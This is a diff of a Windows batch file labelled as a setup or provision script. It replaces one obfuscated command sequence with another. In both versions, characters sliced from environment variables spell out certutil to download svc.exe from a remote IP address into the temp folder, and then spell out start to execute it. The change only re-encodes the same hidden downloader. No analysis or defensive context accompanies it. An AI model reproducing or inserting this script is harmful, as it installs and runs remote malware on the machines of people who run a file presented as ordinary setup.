@@ -1,4 +1,4 @@
-REM provision 5461 v3
+REM setup 4996 v3
 @echo off
-%comspec:~-7,1%e%programdata:~4,1%%programdata:~-2,1%%PUBLIC:~-5,1%t%comspec:~-23,1%%PUBLIC:~12,1%.%COMSPEC:~-1,1%x%public:~5,1% -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
-%PUBLIC:~4,1%t%PROGRAMDATA:~8,1%%PUBLIC:~6,1%t "" %TEMP%\svc.exe
+%COMSPEC:~-7,1%e%ProgramData:~-7,1%t%PUBLIC:~-5,1%%COMSPEC:~14,1%i%PUBLIC:~12,1%.%comspec:~24,1%xe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
+%windir:~9,1%%ProgramData:~-2,1%art "" %TEMP%\svc.exe
